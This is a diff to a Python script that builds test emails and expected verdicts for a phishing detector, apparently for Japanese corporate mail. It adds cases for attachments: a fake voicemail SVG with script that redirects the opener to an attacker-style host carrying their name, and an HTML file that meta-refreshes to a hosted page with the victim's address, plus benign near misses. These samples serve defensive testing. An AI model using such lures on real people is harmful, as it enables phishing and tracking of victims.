@@ -3,10 +3,12 @@
 from the corpora (own wording, other brands and languages).  Links in PDFs
 (plain and password-protected with the password in the body), open redirects
 to IPFS, numeric IPs, homograph hosts, form services from free mail, data:
-links, shorteners; encrypted zips with the password in the body; and the near
+links, shorteners; calendar invites, SVG images with script, HTML files that
+only redirect; encrypted zips with the password in the body; and the near
 misses that must stay quiet: a newsletter's shortened links, a university
-list's survey, a Japanese IDN, a gateway-wrapped link, an intranet address, an
-encrypted zip whose password comes by phone.
+list's survey, a Japanese IDN, a gateway-wrapped link, an intranet address, a
+Teams invite, a logo SVG, an HTML report, an encrypted zip whose password
+comes by phone.
 Standard library only (zip(1) for the encrypted zips; those cases are left out
 without it); writes *.eml and expected.json into the directory given."""
 import base64, hashlib, json, os, quopri, shutil, subprocess, sys, tempfile
@@ -357,6 +359,54 @@ case("n07_teams_invite_from_organiser.eml",
                                 "meetup-join/19%3ameeting_NjQ5\r\n"))]),
      must_not=["attachment.calendar_link", "link.free_hosting", "link.shortener"],
      note="near miss: a Teams invite with the organiser's own agenda link")
+
+# ------------------------------------------------------------------ SVG and HTML attachments
+
+VM = ("Voice Message Center", "voicemail@unified-messaging-notice.example")
+case("l13_svg_voicemail_with_script.eml",
+     mail(VM, "New voice message (0:42) from +81 3-5555-0199",
+          [text_part("You received a new voice message. Open the attachment to play it.\n"),
+           attachment("VM_0042_play.svg",
+                      b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="300" '
+                      b'height="80"><rect width="300" height="80" fill="#0a5"/><text x="20" y="45">'
+                      b'Play message</text><script><![CDATA[setTimeout(function(){window.location.href='
+                      b'"https://vm-listen.r2.dev/p?m="+btoa("miho.kobayashi")},800)]]></script></svg>',
+                      "image/svg+xml")]),
+     must=["attachment.svg_active"], checks=[sev("attachment.svg_active", "high")],
+     note="an SVG that runs script to send its opener away")
+
+case("n08_svg_logo_attachment.eml",
+     mail(("デザイン室 佐々木", "sasaki@design-office.example"), "ロゴ案（修正版）",
+          [text_part("小林様\n\nロゴの修正版を添付します。\n"),
+           attachment("logo_v3.svg",
+                      b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40"><title>Minamikaze'
+                      b'</title><path d="M4 36 L20 4 L36 36 Z" fill="#1a6"/><text x="44" y="28" '
+                      b'font-family="sans-serif">minamikaze</text></svg>',
+                      "image/svg+xml")]),
+     must_not=["attachment.svg_active", "attachment.html_redirect", "html.remote_script"],
+     note="near miss: a drawing is only a drawing")
+
+case("l14_html_attachment_only_redirects.eml",
+     mail(("Document Share", "share@secure-docs-notice.example"), "Shared: Q1 payment schedule.xlsx",
+          [text_part("A document was shared with you. Open the attached file to view it.\n"),
+           attachment("Q1_payment_schedule.html",
+                      b'<html><head><meta http-equiv="refresh" content="0; url=https://q1-payments.'
+                      b'netlify.app/view?e=miho.kobayashi%40minamikaze-unyu.co.jp"></head><body>'
+                      b'Opening document...</body></html>', "text/html")]),
+     must=["attachment.html_redirect", "link.free_hosting"],
+     checks=[sev("attachment.html_redirect", "high")],
+     note="an HTML file that only sends its opener to a hosted page")
+
+case("n09_html_report_attachment.eml",
+     mail(("経理部 中村", "nakamura@" + VICTIM), "月次レポート",
+          [text_part("各位\n\n月次レポートをHTMLで添付します。\n"),
+           attachment("monthly_report.html",
+                      ("<html><head><meta charset='utf-8'><title>月次レポート</title></head><body>"
+                       "<h1>1月 月次レポート</h1>" + "<p>売上は前月比で増加し、物流費は横ばいでした。</p>" * 12 +
+                       "<p><a href='https://intranet.minamikaze-unyu.co.jp/reports'>社内ポータル</a></p>"
+                       "</body></html>").encode(), "text/html")]),
+     must_not=["attachment.html_redirect", "link.free_hosting", "html.link_text_mismatch"],
+     note="near miss: an HTML report with text and an intranet link")
 
 # ------------------------------------------------------------------ archives
 
